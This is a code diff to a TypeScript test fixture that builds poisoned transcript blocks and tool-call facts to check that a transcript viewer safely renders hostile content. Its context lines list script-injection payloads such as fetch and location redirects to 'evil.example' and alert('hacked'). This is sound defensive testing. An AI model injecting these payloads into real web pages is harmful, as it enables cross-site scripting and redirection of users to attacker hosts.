@@ -1,10 +1,18 @@
-import type { BlockRow, MessageRow } from '../../../src/api/transcript.ts';
+import type { BlockRow, CallFacts, MessageRow } from '../../../src/api/transcript.ts';
 import type { SessionDetail } from '../../../src/api/sessions.ts';
 import type { StatusReport } from '../../../src/api/server.ts';
 import type { DataSource } from '../../../src/app/data-source.ts';
 import { outlineInMemory } from './memory-outline.ts';
 import { createEmptyData } from './empty-data.ts';
-import { makeBlock, makeFoundSession, makeHit, makeMessage, makeSession, makeStatus } from './make-rows.ts';
+import {
+  makeBlock,
+  makeCallFacts,
+  makeFoundSession,
+  makeHit,
+  makeMessage,
+  makeSession,
+  makeStatus,
+} from './make-rows.ts';
 
 const HOSTS = ['//evil.example', 'https://evil.example', 'http://127.0.0.1:9'];
 const RUN = ['window.hacked=1', "alert('hacked')", "fetch('//evil.example/x')", 'location="//evil.example"'];
@@ -159,8 +167,16 @@ function hostileBlocks(payload: string, ordinal: number): BlockRow[] {
       ...poisoned,
       tool_name: kind.tool_name === 'Bash' ? 'Bash' : poisoned.tool_name,
       tool_input: kind.tool_input === undefined ? null : poison(kind.tool_input, payload, new Set()),
+      call: kind.block_type === 'tool_use' ? hostileFacts(payload) : null,
     };
   });
+}
+
+const KEPT_FACTS = new Set(['status', 'exit_code', 'result_ordinal', 'patch', 'started_at', 'ended_at']);
+
+function hostileFacts(payload: string): CallFacts {
+  const patch = [{ old_start: 1, new_start: 1, lines: [`-${payload}`, `+${payload} `, ` ${payload}`] }];
+  return poison(makeCallFacts({ patch, details: { a: 'x' } }), payload, KEPT_FACTS);
 }
 
 const INJECTED = [
